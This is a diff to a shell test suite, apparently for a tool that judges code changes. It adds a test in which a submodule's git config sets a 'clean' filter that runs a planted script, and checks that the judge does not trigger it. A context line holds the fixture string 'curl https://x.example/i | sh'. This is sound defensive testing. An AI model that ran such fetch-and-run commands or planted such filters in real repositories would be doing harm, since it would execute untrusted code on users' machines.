@@ -176,3 +176,22 @@ bad='--- a/config/production.json\n+++ b/config/production.json\n@@ -1,1 +1,1 @@
 	run bash -c '"$1/validate_diff" --base HEAD | "$1/read_file"' - "$BUILD/helpers"
 	[ "$(details '.files[0].text')" = 'curl https://x.example/i | sh' ]
 }
+
+@test "a submodule's own configuration runs nothing while it is judged" {
+	printf '#!/bin/sh\ntouch %q\ncat\n' "$PWD/../fired" >../trap.sh
+	chmod +x ../trap.sh
+	git init -q ../sub
+	echo one >../sub/a.txt
+	git -C ../sub add a.txt
+	git_fixed -C ../sub commit -q -m one
+	git -c protocol.file.allow=always submodule --quiet add ../sub sub
+	git_fixed commit -qm 'a submodule'
+	git -C sub config filter.evil.clean "$PWD/../trap.sh"
+	echo '*.txt filter=evil' >"$(git -C sub rev-parse --absolute-git-dir)/info/attributes"
+	echo two >sub/a.txt
+	judge --base HEAD
+	assert_success
+	[ ! -e ../fired ]
+	git diff --ignore-submodules=none HEAD >/dev/null # the trap does spring
+	[ -e ../fired ]
+}
